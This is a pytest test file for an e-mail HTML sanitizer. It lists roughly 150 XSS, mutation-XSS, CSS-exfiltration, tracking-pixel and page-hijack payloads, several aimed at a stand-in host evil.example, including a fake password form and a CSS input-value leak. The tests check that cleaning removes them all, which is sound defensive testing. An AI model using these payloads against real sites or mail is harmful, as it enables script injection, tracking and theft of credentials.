"""What strangers' HTML may not do, and what must stay readable."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hospes.core.html import bounded, clean_html, safe_style
from hospes.core.html_text import html_lines, html_to_text, words

# Payloads by family; each must come out without anything that runs, loads, submits or covers the page.
SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/xss src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script\x00>alert(1)</script>",
    "<script>/*</script><img src=x onerror=alert(1)>*/",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>",
    "<embed src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<applet code=x></applet>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<portal src='https://evil.example'></portal>",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)>",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>x</div>",
    "<a onclick=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<p onpointerenter=alert(1)>x",
    "<table background=javascript:alert(1) onscroll=alert(1)><tr><td>x",
    "<b/style/onanimationend=alert(1)>x",
    "<font color=red onwheel=alert(1)>x",
    "<img src=x onerror&#61;alert(1)>",
    "<img src=x ｏnerror=alert(1)>",
]
LINKS = [
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:image/png;base64,aGk='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='/logout'>x</a>",
    "<a href='?delete=1'>x</a>",
    "<a href='https://x.example' target=_top rel=opener>x</a>",
    "<a href='https://x.example' ping=https://evil.example/p>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<area href=javascript:alert(1)>",
    "<q cite=javascript:alert(1)>x</q>",
    "<blockquote cite=https://evil.example/>x</blockquote>",
]
PICTURES = [
    "<img src=https://evil.example/pixel.gif>",
    "<img src='//evil.example/p'>",
    "<IMG SRC=HTTPS://EVIL.EXAMPLE/P>",
    "<img srcset='https://evil.example/p 1x'>",
    "<img src=/static/x onload=alert(1)>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:text/html,x'>",
    "<img src='x' src='https://evil.example/p'>",
    "<img lowsrc=https://evil.example/p dynsrc=https://evil.example/q>",
    "<img alt='><img src=https://evil.example/p>'>",
    "<img alt='\"><script>alert(1)</script>'>",
    "<image src=https://evil.example/p onerror=alert(1)>",
    "<picture><source srcset=https://evil.example/p><img></picture>",
    "<img data-remote-src='javascript:alert(1)'>",
    "<img data-cid='x\" onerror=\"alert(1)'>",
    "<table background=https://evil.example/p><tr><td background=https://evil.example/p>x",
    "<body background=https://evil.example/p>",
    "<input type=image src=https://evil.example/p>",
    "<video poster=https://evil.example/p></video>",
    "<bgsound src=https://evil.example/p>",
    "<track src=https://evil.example/p>",
    "<link rel=stylesheet href=https://evil.example/c>",
    "<link rel=prefetch href=https://evil.example/c>",
    "<link rel=dns-prefetch href=https://evil.example/>",
    "<img usemap='#m' longdesc=https://evil.example/>",
]
STYLES = [
    "<p style='background:url(https://evil.example/p)'>x",
    "<p style='background-image:url(//evil.example/p)'>x",
    "<p style='background:u\\72l(https://evil.example/p)'>x",
    "<p style='background:/**/url(https://evil.example/p)'>x",
    "<p style='list-style:url(https://evil.example/p)'>x",
    "<p style='list-style-image:url(https://evil.example/p)'>x",
    "<p style='border-image:url(https://evil.example/p)'>x",
    "<p style='cursor:url(https://evil.example/p),auto'>x",
    "<p style='content:url(https://evil.example/p)'>x",
    "<p style='background:image-set(\"https://evil.example/p\" 1x)'>x",
    "<p style='background:-webkit-cross-fade(url(https://evil.example/a),url(https://evil.example/b),50%)'>x",
    "<p style='width:expression(alert(1))'>x",
    "<p style='behavior:url(x.htc)'>x",
    "<p style='-moz-binding:url(https://evil.example/x#y)'>x",
    "<p style='position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9'>x",
    "<p style='position:absolute;inset:0'>x",
    "<p style='margin-top:-2000px'>x",
    "<p style='font-family:x;@import url(https://evil.example/c)'>x",
    "<p style='--a:url(https://evil.example/p);background:var(--a)'>x",
    "<p style='color:red;}body{display:none'>x",
    "<p style='transform:scale(99);opacity:0'>x",
    "<p style='filter:url(https://evil.example/#f)'>x",
    "<p style='animation:x 1s'>x",
    "<p style='width:99999999px'>x",
    "<style>@import 'https://evil.example/c';</style>",
    "<style>body{background:url(https://evil.example/p)}</style>",
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>",
    "<svg><style>@import 'https://evil.example/c'</style></svg>",
    "<style></style><style/><img src=x onerror=alert(1)>",
]
MUTATIONS = [
    "<svg><p><style><img src=1 href=1 onerror=alert(1)></p></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><title><style></title><img src=x onerror=alert(1)>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<xmp><img title='</xmp><img src onerror=alert(1)>'></xmp>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/>",
    "<svg><foreignObject><iframe src=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<table><svg><desc><td><style></desc><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<p title='`><img src=x onerror=alert(1)>'>",
    "<a title='</a><img src=x onerror=alert(1)>'>x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<xss:script xmlns:xss='http://www.w3.org/1999/xhtml'>alert(1)</xss:script>",
]
PAGES = [
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=Set-Cookie content='a=b'>",
    "<base href='https://evil.example/'><a href='x'>y</a>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<p id=cookie name=body class=modal>clobber</p>",
    "<a id=defaultView name=location>x</a>",
    "<dialog open>fake</dialog>",
    "<html manifest=https://evil.example/m>",
    "<p contenteditable autofocus tabindex=1 accesskey=x>x</p>",
    "<p slot=x is=y part=z popover>x</p>",
]
PAYLOADS = SCRIPTS + HANDLERS + LINKS + PICTURES + STYLES + MUTATIONS + PAGES

FORBIDDEN_TAGS = words(
    "script style iframe object embed applet frame frameset base meta link form input button select textarea "
    "svg math template noscript video audio source track dialog portal title head body html marquee keygen"
)
LOADING = {"src", "srcset", "background", "poster", "data", "action", "formaction", "ping", "cite", "longdesc"}


class _Auditor(HTMLParser):
    """Reads cleaned HTML as a browser would and notes everything that it must not contain."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.faults.append(tag)
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        flat = re.sub(r"[\s\x00-\x20]", "", value).lower()
        if name.startswith("on") or name in ("id", "name", "class", "contenteditable", "xlink:href"):
            self.faults.append(name)
        if name in LOADING and not (name == "src" and re.match(r"data:image/(png|jpeg|gif|webp);base64,", flat)):
            self.faults.append(f"{name}={value}")
        if name == "href" and not flat.startswith(("http://", "https://", "mailto:", "tel:")):
            self.faults.append(f"href={value}")
        if name == "target" and value != "_blank":
            self.faults.append(f"target={value}")
        if name == "data-remote-src" and not flat.startswith(("http://", "https://", "//")):
            self.faults.append(f"{name}={value}")
        if name == "style" and re.search(r"url|expression|position|import|\\|@|behavi|var\(|image-set|:-\d", flat):
            self.faults.append(f"style={value}")

    def handle_comment(self, data):
        self.faults.append("comment")

    handle_decl = unknown_decl = handle_pi = handle_comment


def faults_of(html: str) -> list[str]:
    """What an auditor finds wrong, and what changes when the result is cleaned once more (mutation)."""
    auditor = _Auditor()
    auditor.feed(html)
    auditor.close()
    return auditor.faults


def _shape(html: str) -> list[str]:
    """The pieces of a page, with the attributes of each tag in one order (nh3 adds `rel` where it likes)."""
    return [" ".join(sorted(re.split(r" (?=[\w-]+=\")", piece.strip("<>")))) for piece in re.split(r"(<[^>]*>)", html)]


def test_the_corpus_is_large_enough():
    assert len(set(PAYLOADS)) >= 150


@pytest.mark.parametrize("payload", PAYLOADS)
def test_row_01_nothing_in_a_hostile_mail_runs_or_loads(payload):
    for context in ("{}", "<p>before {} after</p>", "<table><tr><td>{}", "<div title='{}'>x", "<ul><li>{}</ul>"):
        cleaned = clean_html(context.format(payload))
        assert faults_of(cleaned) == []
        assert faults_of(clean_html(cleaned)) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_row_01_cleaning_twice_changes_nothing(payload):
    once = clean_html(payload)
    assert _shape(clean_html(once)) == _shape(once)


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(PAYLOADS), min_size=2, max_size=4), st.integers(0, 400), st.randoms())
def test_row_01_mixed_and_cut_payloads_stay_harmless(payloads, cut, random):
    text = "".join(payloads)
    at = random.randrange(len(text) + 1)
    text = text[:at] + random.choice(['"', "'", ">", "<", "<!--", "-->", "</", "&", "\x00", "="]) + text[at:]
    assert faults_of(clean_html(text)) == []
    assert faults_of(clean_html(text[: len(text) - cut])) == []


def test_row_05_a_remote_picture_waits_for_a_click():
    cleaned = clean_html('<p><img src="https://img.example/a.png?x=1&amp;y=2" alt="A" width="10"></p>')
    assert 'data-remote-src="https://img.example/a.png?x=1&amp;y=2"' in cleaned
    assert re.search(r"\ssrc=", cleaned) is None
    assert 'alt="A"' in cleaned


def test_a_picture_of_the_mail_itself_is_named_by_its_content_id():
    assert 'data-cid="pic@x.example"' in clean_html('<img src="cid:pic@x.example">')


def test_a_small_picture_inside_the_page_stays():
    assert 'src="data:image/png;base64,aGVsbG8="' in clean_html('<img src="data:image/png;base64,aGVsbG8=">')


def test_tables_colours_and_alignment_stay():
    page = (
        '<table width="100%" bgcolor="#fff"><tr><td align="right" style="color:#336699;padding:4px">x</td></tr></table>'
    )
    cleaned = clean_html(page)
    assert 'bgcolor="#fff"' in cleaned
    assert 'align="right"' in cleaned
    assert "color: #336699; padding: 4px" in cleaned


def test_links_open_elsewhere_without_a_trace():
    cleaned = clean_html('<a href="https://x.example/?a=1">x</a>')
    assert 'href="https://x.example/?a=1"' in cleaned
    assert 'target="_blank"' in cleaned
    assert 'rel="noopener noreferrer nofollow"' in cleaned


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color:red", "color: red"),
        ("color: RGB(1, 2, 3) !important", "color: RGB(1, 2, 3)"),
        ("font-family:'Segoe UI',Arial,sans-serif", "font-family: 'Segoe UI',Arial,sans-serif"),
        ("font-family:-apple-system,sans-serif", "font-family: -apple-system,sans-serif"),
        ("color:red;position:fixed;top:0", "color: red"),
        ("background:#123456 url(x)", ""),
        ("background:#123456", "background: #123456"),
        ("margin:-5px", ""),
        ("margin:0 0 0 40px", "margin: 0 0 0 40px"),
        ("width:100000px", ""),
        ("border-left:1px solid rgb(204,204,204)", "border-left: 1px solid rgb(204,204,204)"),
        ("color:red/**/", ""),
        ("", ""),
    ],
)
def test_only_harmless_declarations_stay(style, kept):
    assert safe_style(style) == kept


def test_deep_and_endless_markup_is_cut_to_what_a_parser_can_bear():
    page = "".join(f"<font size={i}>" for i in range(5000)) + "<p>x" * 5000
    assert bounded(page).count("<font") < 50
    assert len(clean_html(page)) < 20 * len(page)
    assert "x" in clean_html("<div>" * 5000 + "x")


def test_a_page_becomes_text_as_a_person_reads_it():
    page = """<html><head><title>no</title><style>p{}</style></head><body>
    <div style="display:none">preheader</div><h1>Caf&eacute;</h1><p>One<br>two &amp; three</p>
    <ul><li>a</li><li>b<ol><li>c</li></ol></li></ul><table><tr><td>1</td><td>2</td></tr></table>
    <a href="https://x.example/">here</a> <a href="https://y.example">https://y.example</a></body></html>"""
    assert html_to_text(page) == (
        "Café\n\nOne\ntwo & three\n\n- a\n- b\n  1. c\n\n1\t2\n\nhere <https://x.example/> https://y.example"
    )


def test_quotes_in_a_page_are_marked():
    assert html_to_text("new<blockquote type=cite>old<br>older</blockquote>") == "new\n\n> old\n> older"


def test_words_that_are_hidden_are_shown_when_there_are_no_others():
    assert html_to_text("<div style='display:none'>only</div>") == "only"


def test_a_greater_sign_inside_a_quoted_attribute_does_not_end_the_tag():
    assert html_to_text('<a title="a > b" href="https://x.example/p">go</a>') == "go <https://x.example/p>"


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="<>/ab\"'=!-&; \n\x00", max_size=200))
def test_lines_know_where_they_end_in_any_page(page):
    end = 0
    for line in html_lines(page):
        assert end <= line.end <= len(page)
        end = line.end
    assert faults_of(clean_html(page)) == []
